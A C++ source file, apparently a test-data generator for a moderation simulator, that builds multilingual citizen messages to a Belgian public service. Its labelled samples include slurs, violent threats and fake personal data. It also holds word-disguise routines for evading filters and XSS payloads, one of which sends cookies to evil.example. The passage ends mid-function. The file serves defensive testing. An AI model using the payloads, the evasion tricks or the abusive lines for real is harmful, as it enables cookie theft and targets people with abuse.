// The citizens' words (see corpus.hpp). Every sentence here was written for netsim.
#include "netsim/citizens/corpus.hpp"

#include <array>
#include <map>
#include <utility>

#include "netsim/text.hpp"

namespace belfry::netsim::citizens {

namespace {

using List = std::vector<std::string>;

template <class T>
const T& Pick(Rng& rng, const std::vector<T>& v) {
    return v[static_cast<std::size_t>(rng() % v.size())];
}

// ------------------------------------------------------------------ templates

struct Language {
    std::map<std::string, List, std::less<>> kinds;
    std::map<std::string, List, std::less<>> slots;
};

// Long sentences are split over adjacent literals on purpose.
// NOLINTBEGIN(bugprone-suspicious-missing-comma)
const std::map<std::string, Language, std::less<>>& Corpus() {
    static const std::map<std::string, Language, std::less<>> kCorpus{
        {"fr",
         {{
              {"question",
               {"Bonjour, mon lecteur de carte ne reconnaît plus ma carte eID depuis la dernière mise à jour de "
                "Windows. Que dois-je faire ?",
                "Comment activer itsme si je n'ai plus accès à mon ancien numéro de téléphone ?",
                "Où puis-je trouver le formulaire {form} ? Je ne le vois nulle part sur le site.",
                "Quels sont les horaires d'ouverture du service {service} à {city} ? Le site dit une chose, "
                "le répondeur une autre.",
                "Est-il prudent de voyager {country} en ce moment ? Les conseils aux voyageurs datent d'il y a "
                "un mois.",
                "J'ai oublié le code PIN de ma carte d'identité. Comment obtenir un nouveau code PUK ?",
                "Tax-on-web affiche une erreur quand je veux signer ma déclaration. Il y a un souci en ce moment ?",
                "Qui faut-il contacter pour {topic} ? Le numéro indiqué ne répond jamais.",
                "Mon passeport expire dans deux mois et je pars {country} en vacances. Est-ce que ça suffit ?",
                "Bonjour {name} ici : la page sur {topic} renvoie une erreur. Pouvez-vous corriger le lien ?",
                "Faut-il prendre rendez-vous pour {action} à {city} ou peut-on venir sans ?",
                "Est-ce que je peux {action} en ligne avec ma carte eID ou faut-il passer au guichet ?"}},
              {"praise",
               {"Merci pour la réponse rapide, mon problème avec itsme est réglé !",
                "Enfin des informations claires sur {topic}. Bravo à l'équipe 👏",
                "Accueil impeccable au service {service} de {city} ce matin, merci.",
                "Très utile, je partage autour de moi. Merci !",
                "Merci d'avoir publié les conseils aux voyageurs {country} si vite, ça nous a beaucoup aidés."}},
              {"complaint",
               {"Cela fait trois semaines que j'attends une réponse à mon courriel. C'est inadmissible.",
                "Le site est encore en panne ce matin, je n'arrive pas à {action}.",
                "Deux heures d'attente au guichet de {city} pour un simple certificat…",
                "Pourquoi cette information n'existe-t-elle qu'en néerlandais ? Nous sommes aussi des citoyens.",
                "Votre assistant en ligne ne comprend rien, je voudrais parler à une vraie personne.",
                "Le formulaire {form} refuse mon numéro de registre national alors qu'il est correct."}},
              {"followup_thanks",
               {"Merci beaucoup, c'est réglé !", "Parfait, merci pour votre aide.",
                "Merci, j'ai reçu le document aujourd'hui."}},
              {"followup_more",
               {"Merci, mais ça ne répond pas vraiment à ma question : et pour {topic} ?",
                "D'accord, et c'est la même procédure pour {action} ?",
                "Toujours rien reçu depuis votre réponse. Pouvez-vous relancer le dossier ?",
                "Je n'ai pas trouvé le lien dont vous parlez, pouvez-vous le renvoyer ?"}},
              {"spam",
               {"*Gagnez* 5000 € par semaine depuis chez vous ! Cliquez ici 👉 {link}",
                "🚀 Investissez dans la *crypto* BelgaCoin avant qu'il soit trop tard : {link}",
                "Félicitations, vous avez été sélectionné pour *gagner* un iPhone ! {link}",
                "Prêt rapide sans justificatif, réponse en 24 h : {link} #*crypto* #argent",
                "Je suis devenu riche grâce au *bitcoin*, demandez-moi comment en privé ➡️ {link}"}},
              {"personal_data",
               {"Bonjour, je n'arrive pas à me connecter. Mon numéro national est le {nrn}, pouvez-vous vérifier ?",
                "Rappelez-moi au {phone} ou écrivez-moi à {email}, merci.",
                "J'attends toujours le remboursement sur mon compte {iban}. Registre national : {nrn}",
                "Voici mon adresse {email} et mon GSM {phone} pour mon dossier de {topic}."}},
              {"insult",
               {"Bande d'*incompétents*, vous ne servez à rien.", "Quels *abrutis*. Un gouvernement de *guignols*.",
                "Ferme-la, espèce de *connard*.", "Vous êtes tous des *imbéciles* payés avec nos impôts."}},
              {"threat",
               {"Si mon dossier n'est pas traité demain, je viens au bureau et je vais *tout casser*.",
                "On sait où vous habitez. Faites attention, on va vous *régler votre compte*.",
                "Ce ministre mérite une *balle dans la tête*."}},
              {"racism",
               {"Les *étrangers* n'ont qu'à *rentrer chez eux*, ils profitent de nos allocations.",
                "Cette *race de voleurs* n'a rien à faire en Belgique.",
                "Encore des aides pour les *bougnoules* pendant que les Belges galèrent."}},
              {"discrimination",
               {"Une femme ministre ? Les *femmes* n'ont rien à faire en politique.",
                "Les *homos* ne devraient pas pouvoir adopter, honte à vous.",
                "Pourquoi engager des *handicapés* dans l'administration ? Ils ne sont pas productifs."}},
          },
          {
              {"topic",
               {"le chômage temporaire", "la carte de stationnement pour personnes handicapées",
                "le permis de conduire international", "la prime à la rénovation", "l'allocation de naissance",
                "le certificat de bonne vie et mœurs", "la vignette autoroutière"}},
              {"form",
               {"de changement d'adresse", "de demande d'allocations familiales", "de déclaration d'accident",
                "de demande de prime énergie", "de procuration de vote"}},
              {"service", {"population", "état civil", "passeports", "urbanisme", "étrangers"}},
              {"country",
               {"en France", "au Maroc", "en Turquie", "en Thaïlande", "en Égypte", "au Kenya", "au Brésil",
                "au Japon"}},
              {"city", {"Bruxelles", "Liège", "Namur", "Charleroi", "Mons", "Arlon", "Wavre"}},
              {"action",
               {"renouveler ma carte d'identité", "demander un extrait de casier judiciaire", "déclarer une naissance",
                "changer mon adresse", "obtenir un passeport"}},
          }}},
        {"nl",
         {{
              {"question",
               {"Mijn kaartlezer herkent mijn eID niet meer sinds de laatste update. Wat moet ik doen?",
                "Hoe activeer ik itsme als ik mijn oude gsm-nummer niet meer heb?",
                "Waar vind ik het formulier {form}? Ik vind het nergens op de website.",
                "Wat zijn de openingsuren van de dienst {service} in {city}?",
                "Is het momenteel veilig om naar {country} te reizen? Het reisadvies is al een maand niet "
                "aangepast.",
                "Ik ben de pincode van mijn identiteitskaart vergeten. Hoe krijg ik een nieuwe PUK-code?",
                "Tax-on-web geeft een foutmelding als ik mijn aangifte wil ondertekenen. Is er een storing?",
                "Wie moet ik contacteren voor {topic}? Het nummer op de site neemt nooit op.",
                "Mijn paspoort vervalt over twee maanden en ik vertrek naar {country}. Is dat genoeg?",
                "Moet ik een afspraak maken om {action} in {city}, of mag ik gewoon langskomen?",
                "Kan ik online {action} met mijn eID of moet ik naar het loket?"}},
              {"praise",
               {"Bedankt voor het snelle antwoord, mijn probleem met itsme is opgelost!",
                "Eindelijk duidelijke info over {topic}. Goed gedaan 👏",
                "Heel vriendelijke ontvangst bij de dienst {service} in {city} vanmorgen, dank je.",
                "Super handig, ik deel het met mijn familie."}},
              {"complaint",
               {"Ik wacht al drie weken op een antwoord op mijn mail. Onaanvaardbaar.",
                "De website ligt weer plat, zo kan ik onmogelijk {action}.",
                "Twee uur aanschuiven aan het loket in {city} voor één attest…",
                "Waarom staat deze informatie alleen in het Frans online?",
                "Jullie chatbot begrijpt niets, ik wil met een mens spreken.",
                "Het formulier {form} weigert mijn rijksregisternummer terwijl het klopt."}},
              {"followup_thanks",
               {"Dank je wel, het is in orde!", "Perfect, bedankt voor de hulp.",
                "Merci, ik heb het document vandaag ontvangen."}},
              {"followup_more",
               {"Bedankt, maar dat beantwoordt mijn vraag niet: en voor {topic}?",
                "Oké, en is het dezelfde procedure om {action}?",
                "Sinds jullie antwoord nog altijd niets ontvangen. Kunnen jullie het dossier opvolgen?",
                "Ik vind de link niet waarover jullie spreken, kunnen jullie hem opnieuw sturen?"}},
              {"spam",
               {"*Verdien* €5000 per week van thuis uit! Klik hier 👉 {link}",
                "🚀 Investeer nu in *crypto* BelgaCoin voor het te laat is: {link}",
                "Proficiat, je bent geselecteerd om een iPhone te *winnen*! {link}",
                "Snelle lening zonder papierwerk, antwoord binnen 24 u: {link} #*crypto*"}},
              {"personal_data",
               {"Ik kan niet inloggen. Mijn rijksregisternummer is {nrn}, kunnen jullie dat nakijken?",
                "Bel mij terug op {phone} of mail naar {email}, bedankt.",
                "Ik wacht nog altijd op de terugbetaling op rekening {iban}. Rijksregister: {nrn}",
                "Mijn e-mailadres is {email} en mijn gsm {phone}, voor mijn dossier over {topic}."}},
              {"insult",
               {"Bende *incompetente* *idioten*, jullie zijn nergens goed voor.",
                "Wat een *sukkels*. Een regering van *clowns*.", "Hou je bek, *klootzak*.",
                "Allemaal *nietsnutten* betaald met ons belastinggeld."}},
              {"threat",
               {"Als mijn dossier morgen niet behandeld is, kom ik naar het kantoor en *sla ik alles kapot*.",
                "We weten waar je woont. Pas maar op, we *maken je af*.",
                "Die minister verdient een *kogel door zijn kop*."}},
              {"racism",
               {"Die *vreemdelingen* moeten *terug naar hun eigen land*, ze profiteren van onze uitkeringen.",
                "Dat *tuig* hoort niet thuis in België.",
                "Weer steun voor die *makakken* terwijl de Belgen niets krijgen."}},
              {"discrimination",
               {"Een vrouw als minister? *Vrouwen* horen niet in de politiek.",
                "*Homo's* zouden geen kinderen mogen adopteren, schaam je.",
                "Waarom *gehandicapten* aannemen bij de overheid? Die zijn niet productief."}},
          },
          {
              {"topic",
               {"tijdelijke werkloosheid", "de parkeerkaart voor personen met een handicap",
                "het internationaal rijbewijs", "de renovatiepremie", "het groeipakket",
                "het uittreksel uit "
                "het strafregister",
                "het Vlaams woonkrediet"}},
              {"form",
               {"voor adreswijziging", "voor het groeipakket", "voor een arbeidsongeval", "voor de energiepremie",
                "voor een volmacht bij verkiezingen"}},
              {"service", {"bevolking", "burgerlijke stand", "paspoorten", "stedenbouw", "vreemdelingen"}},
              {"country", {"Frankrijk", "Marokko", "Turkije", "Thailand", "Egypte", "Kenia", "Brazilië", "Japan"}},
              {"city", {"Brussel", "Antwerpen", "Gent", "Leuven", "Brugge", "Hasselt", "Mechelen"}},
              {"action",
               {"mijn identiteitskaart vernieuwen", "een uittreksel uit het strafregister aanvragen",
                "een geboorte aangeven", "mijn adres wijzigen", "een paspoort aanvragen"}},
          }}},
        {"de",
         {{
              {"question",
               {"Mein Kartenleser erkennt meine eID seit dem letzten Update nicht mehr. Was kann ich tun?",
                "Wie aktiviere ich itsme, wenn ich meine alte Handynummer nicht mehr habe?",
                "Wo finde ich das Formular {form}? Auf der Website finde ich es nicht.",
                "Wann hat der Dienst {service} in {city} geöffnet?",
                "Ist es zurzeit sicher, {country} zu reisen? Die Reisehinweise sind einen Monat alt.",
                "Ich habe die PIN meines Personalausweises vergessen. Wie bekomme ich einen neuen PUK-Code?",
                "Tax-on-web zeigt einen Fehler, wenn ich meine Erklärung unterschreiben will. Gibt es eine Störung?",
                "An wen wende ich mich wegen {topic}? Unter der angegebenen Nummer geht nie jemand ran.",
                "Mein Reisepass läuft in zwei Monaten ab und ich fliege {country}. Reicht das?",
                "Brauche ich einen Termin, um {action}, oder kann ich einfach in {city} vorbeikommen?"}},
              {"praise",
               {"Danke für die schnelle Antwort, mein Problem mit itsme ist gelöst!",
                "Endlich klare Informationen zu {topic}. Gut gemacht 👏",
                "Sehr freundlicher Empfang beim Dienst {service} in {city} heute Morgen, danke.",
                "Sehr hilfreich, ich teile das gern."}},
              {"complaint",
               {"Seit drei Wochen warte ich auf eine Antwort auf meine E-Mail. Unzumutbar.",
                "Die Website ist schon wieder down, es ist unmöglich, {action}.",
                "Zwei Stunden Wartezeit am Schalter in {city} für eine einfache Bescheinigung…",
                "Warum gibt es diese Information nicht auf Deutsch? Wir sind auch Bürger dieses Landes.",
                "Ihr Chatbot versteht nichts, ich möchte mit einem Menschen sprechen."}},
              {"followup_thanks",
               {"Vielen Dank, das hat geklappt!", "Perfekt, danke für die Hilfe.",
                "Danke, ich habe das Dokument heute bekommen."}},
              {"followup_more",
               {"Danke, aber das beantwortet meine Frage nicht: und bei {topic}?",
                "Gut, und ist es dasselbe Verfahren, um {action}?",
                "Seit Ihrer Antwort ist nichts passiert. Können Sie nachhaken?"}},
              {"spam",
               {"*Verdiene* 5000 € pro Woche von zu Hause! Hier klicken 👉 {link}",
                "🚀 Jetzt in *Krypto* BelgaCoin investieren, bevor es zu spät ist: {link}",
                "Glückwunsch, du kannst ein iPhone *gewinnen*! {link}",
                "Schneller Kredit ohne Schufa, Antwort in 24 Std.: {link} #*Krypto*"}},
              {"personal_data",
               {"Ich kann mich nicht anmelden. Meine Nationalregisternummer ist {nrn}, können Sie das prüfen?",
                "Rufen Sie mich unter {phone} zurück oder schreiben Sie an {email}.",
                "Ich warte immer noch auf die Erstattung auf mein Konto {iban}. Nationalregister: {nrn}",
                "Hier meine E-Mail {email} und mein Handy {phone} für meine Akte zu {topic}."}},
              {"insult",
               {"Ihr *inkompetenten* *Idioten* seid zu nichts zu gebrauchen.",
                "Was für *Vollpfosten*. Eine Regierung aus *Clowns*.", "Halt die Fresse, du *Arschloch*.",
                "Alles *Schmarotzer*, bezahlt mit unseren Steuern."}},
              {"threat",
               {"Wenn meine Akte morgen nicht bearbeitet ist, komme ich ins Büro und *schlage alles kurz und klein*.",
                "Wir wissen, wo du wohnst. Pass auf, wir *machen dich fertig*.",
                "Dieser Minister verdient eine *Kugel in den Kopf*."}},
              {"racism",
               {"*Ausländer raus*, die leben nur von unseren Sozialleistungen.",
                "Dieses *Gesindel* hat in Belgien nichts verloren.",
                "Schon wieder Geld für die *Kanaken*, während wir Belgier leer ausgehen."}},
              {"discrimination",
               {"Eine Frau als Ministerin? *Frauen* haben in der Politik nichts zu suchen.",
                "*Schwule* sollten keine Kinder adoptieren dürfen, schämt euch.",
                "Warum stellt der Staat *Behinderte* ein? Die sind doch nicht produktiv."}},
          },
          {
              {"topic",
               {"die vorübergehende Arbeitslosigkeit", "den Parkausweis für Menschen mit Behinderung",
                "den internationalen Führerschein", "die Renovierungsprämie", "das Kindergeld", "das Führungszeugnis"}},
              {"form",
               {"für die Adressänderung", "für das Kindergeld", "für einen Arbeitsunfall", "für die Energieprämie",
                "für eine Wahlvollmacht"}},
              {"service", {"Bevölkerung", "Standesamt", "Reisepässe", "Städtebau", "Ausländer"}},
              {"country",
               {"nach Frankreich", "nach Marokko", "in die Türkei", "nach Thailand", "nach Ägypten", "nach Kenia",
                "nach Brasilien", "nach Japan"}},
              {"city", {"Eupen", "St. Vith", "Kelmis", "Raeren", "Bütgenbach", "Lüttich", "Brüssel"}},
              {"action",
               {"meinen Personalausweis zu erneuern", "ein Führungszeugnis zu beantragen", "eine Geburt anzumelden",
                "meine Adresse zu ändern", "einen Reisepass zu beantragen"}},
          }}},
        {"en",
         {{
              {"question",
               {"Hi, my card reader stopped recognising my eID after the last update. What should I do?",
                "How do I activate itsme if I no longer have my old phone number?",
                "Where can I find the form {form}? I can't find it anywhere on the website.",
                "What are the opening hours of the {service} office in {city}?",
                "Is it safe to travel to {country} at the moment? The travel advice is a month old.",
                "I forgot the PIN of my ID card. How do I get a new PUK code?",
                "Tax-on-web shows an error when I try to sign my return. Is something down?",
                "Who should I contact about {topic}? Nobody ever answers the number on the site.",
                "My passport expires in two months and I'm flying to {country}. Is that enough?",
                "Do I need an appointment to {action} in {city}, or can I just walk in?",
                "As an expat, can I {action} online with my eID or do I have to go to the desk?"}},
              {"praise",
               {"Thanks for the quick reply, my itsme problem is solved!",
                "Finally some clear information about {topic}. Well done 👏",
                "Very friendly welcome at the {service} office in {city} this morning, thank you.",
                "Really useful, sharing this with my colleagues."}},
              {"complaint",
               {"I've been waiting three weeks for an answer to my e-mail. Unacceptable.",
                "The website is down again, I can't {action}.",
                "Two hours of queueing at the desk in {city} for a simple certificate…",
                "Why is this only available in Dutch and French? Many of us are expats.",
                "Your chatbot understands nothing, I want to talk to a person."}},
              {"followup_thanks",
               {"Thank you, that worked!", "Perfect, thanks for your help.", "Thanks, the document arrived today."}},
              {"followup_more",
               {"Thanks, but that doesn't answer my question: what about {topic}?",
                "OK, and is it the same procedure to {action}?",
                "Still nothing since your reply. Could you chase it up?"}},
              {"spam",
               {"*Earn* €5000 a week from home! Click here 👉 {link}",
                "🚀 Invest in *crypto* BelgaCoin before it's too late: {link}",
                "Congratulations, you've been selected to *win* an iPhone! {link}",
                "Fast loan, no paperwork, answer within 24h: {link} #*crypto* #money"}},
              {"personal_data",
               {"I can't log in. My national register number is {nrn}, can you check?",
                "Call me back on {phone} or e-mail {email}, thanks.",
                "Still waiting for the refund to my account {iban}. National register: {nrn}",
                "My e-mail is {email} and my mobile {phone}, for my file about {topic}."}},
              {"insult",
               {"You *incompetent* *morons* are useless.", "What a bunch of *idiots*. A government of *clowns*.",
                "Shut up, you *asshole*.", "All of you are *parasites* paid with our taxes."}},
              {"threat",
               {"If my file isn't handled tomorrow I'll come to your office and *smash everything*.",
                "We know where you live. Watch out, we'll *finish you off*.",
                "That minister deserves a *bullet in the head*."}},
              {"racism",
               {"*Foreigners* should *go back to their own country*, they live off our benefits.",
                "That *vermin* has no place in Belgium.", "More money for the *savages* while Belgians get nothing."}},
              {"discrimination",
               {"A woman as minister? *Women* don't belong in politics.",
                "*Gays* shouldn't be allowed to adopt, shame on you.",
                "Why hire *cripples* in the civil service? They aren't productive."}},
          },
          {
              {"topic",
               {"temporary unemployment", "the disabled parking card", "the international driving licence",
                "the renovation grant", "child benefit", "a certificate of good conduct"}},
              {"form",
               {"for a change of address", "for child benefit", "for a work accident", "for the energy grant",
                "for a voting proxy"}},
              {"service", {"population", "civil registry", "passport", "town planning", "foreigners"}},
              {"country", {"France", "Morocco", "Turkey", "Thailand", "Egypt", "Kenya", "Brazil", "Japan"}},
              {"city", {"Brussels", "Antwerp", "Ghent", "Liège", "Leuven", "Namur", "Bruges"}},
              {"action",
               {"renew my ID card", "request a criminal record extract", "register a birth", "change my address",
                "apply for a passport"}},
          }}},
    };
    return kCorpus;
}

// NOLINTEND(bugprone-suspicious-missing-comma)

const Language& Lang(std::string_view language) {
    auto it = Corpus().find(language);
    return it == Corpus().end() ? Corpus().at("en") : it->second;
}

// ------------------------------------------------------------------ personal data

std::string Digits(std::string_view s) {
    std::string out;
    for (char c : s) {
        if (c >= '0' && c <= '9') out += c;
    }
    return out;
}

// `n` mod 97 for a long decimal string.
int Mod97(std::string_view decimal) {
    int r = 0;
    for (char c : decimal) r = (r * 10 + (c - '0')) % 97;
    return r;
}

std::string Pad(unsigned long long v, int width) {
    std::string s = std::to_string(v);
    while (static_cast<int>(s.size()) < width) s.insert(s.begin(), '0');
    return s;
}

// Lower-case ASCII of a name ("Léa El Amrani" → "lea el amrani"); other characters dropped.
std::string Fold(std::string_view s) {
    static const std::vector<std::pair<std::string, std::string>> kFold{
        {"é", "e"}, {"è", "e"},  {"ê", "e"}, {"ë", "e"}, {"à", "a"}, {"â", "a"}, {"ä", "a"},
        {"ï", "i"}, {"î", "i"},  {"ô", "o"}, {"ö", "o"}, {"ü", "u"}, {"û", "u"}, {"ù", "u"},
        {"ç", "c"}, {"ß", "ss"}, {"É", "e"}, {"Ö", "o"}, {"Ü", "u"}, {"ı", "i"}};
    std::string out;
    std::size_t i = 0;
    while (i < s.size()) {
        bool folded = false;
        for (const auto& [from, to] : kFold) {
            if (s.substr(i, from.size()) == from) {
                out += to;
                i += from.size();
                folded = true;
                break;
            }
        }
        if (folded) continue;
        const char c = s[i++];
        if (c >= 'A' && c <= 'Z') {
            out += static_cast<char>(c - 'A' + 'a');
        } else if ((c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == ' ') {
            out += c;
        }
    }
    return out;
}

std::string Joined(std::string_view folded, char sep) {
    std::string out;
    for (char c : folded) out += c == ' ' ? sep : c;
    return out;
}

}  // namespace

// ------------------------------------------------------------------ kinds and people

const std::vector<std::string>& MessageKinds() {
    static const std::vector<std::string> kKinds{"question", "praise", "complaint", "spam",           "personal_data",
                                                 "insult",   "threat", "racism",    "discrimination", "hostile"};
    return kKinds;
}

std::string LabelOf(std::string_view kind) {
    if (kind == "spam" || kind == "personal_data" || kind == "insult" || kind == "racism" || kind == "discrimination") {
        return std::string(kind);
    }
    if (kind == "threat") return "violence";
    return "ok";
}

bool Disguisable(std::string_view kind) {
    return kind == "spam" || kind == "insult" || kind == "threat" || kind == "racism" || kind == "discrimination";
}

const std::vector<Persona>& Personas() {
    static const std::vector<Persona> kPersonas = [] {
        struct Who {
            const char* first;
            const char* last;
            const char* language;
        };
        static const std::array<Who, 36> kWho{{
            {"Léa", "Dupont", "fr"},        {"Lucas", "Lambert", "fr"},  {"Chloé", "Dubois", "fr"},
            {"Mohamed", "El Amrani", "fr"}, {"Inès", "Martin", "fr"},    {"Julien", "Leroy", "fr"},
            {"Camille", "Renard", "fr"},    {"Sophie", "Collard", "fr"}, {"Nathan", "Lejeune", "fr"},
            {"Aïcha", "Benali", "fr"},      {"Lotte", "Peeters", "nl"},  {"Wout", "Janssens", "nl"},
            {"Fien", "Maes", "nl"},         {"Arne", "Jacobs", "nl"},    {"Noor", "Mertens", "nl"},
            {"Bram", "Willems", "nl"},      {"Lieve", "Claes", "nl"},    {"Youssef", "Aydın", "nl"},
            {"Jens", "De Smet", "nl"},      {"Emma", "Wouters", "nl"},   {"Lena", "Schmitz", "de"},
            {"Jonas", "Müller", "de"},      {"Anna", "Kessler", "de"},   {"Lukas", "Schröder", "de"},
            {"Marie", "Hilgers", "de"},     {"Felix", "Keutgen", "de"},  {"Olivia", "Smith", "en"},
            {"James", "O'Neill", "en"},     {"Grace", "Kowalski", "en"}, {"Daniel", "Nguyen", "en"},
            {"Priya", "Sharma", "en"},      {"Tom", "Becker", "en"},     {"Sarah", "Goossens", "nl"},
            {"Hugo", "Lemaire", "fr"},      {"Elif", "Kaya", "de"},      {"Marc", "Dewaele", "fr"},
        }};
        std::vector<Persona> out;
        for (const auto& w : kWho) {
            Persona p;
            p.first = w.first;
            p.last = w.last;
            p.name = std::string(w.first) + " " + w.last;
            p.language = w.language;
            const std::string folded = Fold(p.name);
            p.mastodon = Joined(folded, '_');
            p.bluesky = Joined(folded, '-') + ".bsky.social";
            out.push_back(std::move(p));
        }
        // Hostile display names: markup, a script, a right-to-left override (U+202E … U+202C).
        out.push_back(
            {"<script>alert(1)</script>", "fr", "script_alert", "script-alert.bsky.social", "Script", "Alert"});
        out.push_back(
            {"<img src=x onerror=alert(1)>", "nl", "img_onerror", "img-onerror.bsky.social", "Img", "Onerror"});
        out.push_back({"Jean \u202Esiobud\u202C", "fr", "jean_rlo", "jean-rlo.bsky.social", "Jean", "Rlo"});
        return out;
    }();
    return kPersonas;
}

std::string PickTemplate(Rng& rng, std::string_view language, std::string_view kind) {
    const Language& lang = Lang(language);
    auto it = lang.kinds.find(kind);
    if (it == lang.kinds.end()) it = lang.kinds.find("question");
    return Pick(rng, it->second);
}

std::string Fill(Rng& rng, std::string_view text, std::string_view language, const Persona& persona) {
    const Language& lang = Lang(language);
    std::string out;
    std::size_t i = 0;
    while (i < text.size()) {
        const auto open = text.find('{', i);
        if (open == std::string_view::npos) break;
        const auto close = text.find('}', open);
        if (close == std::string_view::npos) break;
        out.append(text.substr(i, open - i));
        const std::string slot(text.substr(open + 1, close - open - 1));
        if (slot == "name") {
            out += persona.first;
        } else if (slot == "phone") {
            out += BelgianMobile(rng);
        } else if (slot == "email") {
            out += Email(rng, persona);
        } else if (slot == "nrn") {
            out += NationalRegisterNumber(rng, rng() % 2 == 0);
        } else if (slot == "iban") {
            out += BelgianIban(rng, rng() % 3 != 0);
        } else if (slot == "link") {
            static const List kHosts{"belgacoin-profit.example", "gagner-vite.example", "win-iphone.example",
                                     "snelle-lening.example", "bit.example"};
            out += (rng() % 2 ? "https://" : "http://") + Pick(rng, kHosts) + "/r/" +
                   std::to_string(rng() % 90000 + 10000);
        } else if (auto s = lang.slots.find(slot); s != lang.slots.end()) {
            out += Pick(rng, s->second);
        } else {
            out.append(text.substr(open, close - open + 1));
        }
        i = close + 1;
    }
    out.append(text.substr(std::min(i, text.size())));
    return out;
}

std::string_view DisguiseName(DisguiseKind kind) {
    switch (kind) {
        case DisguiseKind::kNone:
            return "none";
        case DisguiseKind::kLeet:
            return "leet";
        case DisguiseKind::kRepeat:
            return "repeat";
        case DisguiseKind::kSpaced:
            return "spaced";
        case DisguiseKind::kCyrillic:
            return "cyrillic";
        case DisguiseKind::kZeroWidth:
            return "zero_width";
        case DisguiseKind::kMixedCase:
            return "mixed_case";
    }
    return "none";
}

namespace {

// One UTF-8 character at `i`: its length.
std::size_t CharLen(std::string_view s, std::size_t i) {
    const auto c = static_cast<unsigned char>(s[i]);
    std::size_t n = c < 0x80 ? 1 : (c >> 5) == 6 ? 2 : (c >> 4) == 14 ? 3 : 4;
    return std::min(n, s.size() - i);
}

std::string DisguiseWord(std::string_view word, DisguiseKind kind, Rng& rng) {
    std::string out;
    switch (kind) {
        case DisguiseKind::kNone:
            return std::string(word);
        case DisguiseKind::kLeet: {
            static const std::map<char, char> kLeet{{'a', '4'}, {'e', '3'}, {'i', '1'}, {'o', '0'},
                                                    {'s', '$'}, {'t', '7'}, {'A', '4'}, {'E', '3'},
                                                    {'I', '1'}, {'O', '0'}, {'S', '5'}};
            for (char c : word) {
                auto it = kLeet.find(c);
                out += it != kLeet.end() && rng() % 4 != 0 ? it->second : c;
            }
            return out;
        }
        case DisguiseKind::kRepeat: {
            bool done = false;
            for (char c : word) {
                out += c;
                if (!done && std::string_view("aeiouAEIOU").find(c) != std::string_view::npos && rng() % 2 == 0) {
                    out.append(2 + rng() % 4, c);
                    done = true;
                }
            }
            if (!done && !word.empty()) out.append(3, word.back());
            return out;
        }
        case DisguiseKind::kSpaced: {
            const char* sep = rng() % 2 ? " " : ".";
            for (std::size_t i = 0; i < word.size();) {
                const std::size_t n = CharLen(word, i);
                if (!out.empty() && word[i] != ' ') out += sep;
                out.append(word.substr(i, n));
                i += n;
            }
            return out;
        }
        case DisguiseKind::kCyrillic: {
            // Latin letters and their Cyrillic look-alikes.
            static const std::map<char, std::string> kLookAlike{
                {'a', "\u0430"}, {'e', "\u0435"}, {'o', "\u043E"}, {'p', "\u0440"}, {'c', "\u0441"},
                {'x', "\u0445"}, {'y', "\u0443"}, {'i', "\u0456"}, {'A', "\u0410"}, {'E', "\u0415"},
                {'O', "\u041E"}, {'C', "\u0421"}, {'K', "\u041A"}, {'M', "\u041C"}, {'T', "\u0422"}};
            for (char c : word) {
                auto it = kLookAlike.find(c);
                if (it != kLookAlike.end()) {
                    out += it->second;
                } else {
                    out += c;
                }
            }
            return out;
        }
        case DisguiseKind::kZeroWidth: {
            static const std::array<const char*, 3> kZw{"\u200B", "\u200C", "\u200D"};
            for (std::size_t i = 0; i < word.size();) {
                const std::size_t n = CharLen(word, i);
                if (i > 0) out += kZw[rng() % kZw.size()];
                out.append(word.substr(i, n));
                i += n;
            }
            return out;
        }
        case DisguiseKind::kMixedCase: {
            bool upper = rng() % 2 == 0;
            for (char c : word) {
                if (c >= 'a' && c <= 'z' && upper) c = static_cast<char>(c - 'a' + 'A');
                out += c;
                upper = !upper;
            }
            return out;
        }
    }
    return std::string(word);
}

}  // namespace

std::string Disguise(std::string_view text, DisguiseKind kind, Rng& rng) {
    std::string out;
    std::size_t i = 0;
    while (i < text.size()) {
        const auto open = text.find('*', i);
        if (open == std::string_view::npos) break;
        const auto close = text.find('*', open + 1);
        if (close == std::string_view::npos) break;
        out.append(text.substr(i, open - i));
        out += DisguiseWord(text.substr(open + 1, close - open - 1), kind, rng);
        i = close + 1;
    }
    out.append(text.substr(std::min(i, text.size())));
    return out;
}

std::string Hostile(Rng& rng, std::string_view language, const Persona& persona) {
    const std::string question =
        Disguise(Fill(rng, PickTemplate(rng, language, "question"), language, persona), DisguiseKind::kNone, rng);
    switch (rng() % 5) {
        case 0:
            return "<script>alert(document.cookie)</script> " + question;
        case 1:
            return question + " <img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">";
        case 2:
            return "\u202E" + question + "\u202C";  // displayed reversed by a bidi-unaware renderer
        case 3:
            return "<a href=\"javascript:alert(1)\">" + question + "</a>";
        default:
            return question + " &lt;b&gt;urgent&lt;/b&gt; <svg/onload=alert(1)> \u2066\u202Ecod.exe\u2069";
    }
}

std::string Long(Rng& rng, std::string_view language, const Persona& persona, long max_graphemes) {
    std::string out;
    for (int guard = 0; guard < 200; ++guard) {
        const char* kind = rng() % 2 ? "complaint" : "question";
        const std::string sentence =
            Disguise(Fill(rng, PickTemplate(rng, language, kind), language, persona), DisguiseKind::kNone, rng);
        std::string next = out;
        if (!next.empty()) next += rng() % 4 == 0 ? "\n\n" : " ";
        next += sentence;
        if (Graphemes(next) > max_graphemes) {
            if (Graphemes(out) * 5 >= max_graphemes * 4) break;
            continue;  // a shorter sentence may still fit
        }
        out = next;
    }
    return out;
}

std::string NationalRegisterNumber(Rng& rng, bool formatted) {
    const int year = 1940 + static_cast<int>(rng() % 66);  // 1940–2005
    const int month = 1 + static_cast<int>(rng() % 12);
    const int day = 1 + static_cast<int>(rng() % 28);
    const int serial = 1 + static_cast<int>(rng() % 997);
    const std::string first9 = Pad(static_cast<unsigned long long>(year % 100), 2) + Pad(month, 2) + Pad(day, 2) +
                               Pad(static_cast<unsigned long long>(serial), 3);
    const std::string checked = year >= 2000 ? "2" + first9 : first9;
    const int check = 97 - Mod97(checked);
    const std::string cc = Pad(static_cast<unsigned long long>(check), 2);
    if (!formatted) return first9 + cc;
    return first9.substr(0, 2) + "." + first9.substr(2, 2) + "." + first9.substr(4, 2) + "-" + first9.substr(6, 3) +
           "." + cc;
}

bool ValidNationalRegisterNumber(std::string_view text) {
    const std::string d = Digits(text);
    if (d.size() != 11) return false;
    const int check = std::stoi(d.substr(9));
    return 97 - Mod97(d.substr(0, 9)) == check || 97 - Mod97("2" + d.substr(0, 9)) == check;
}

std::string BelgianIban(Rng& rng, bool grouped) {
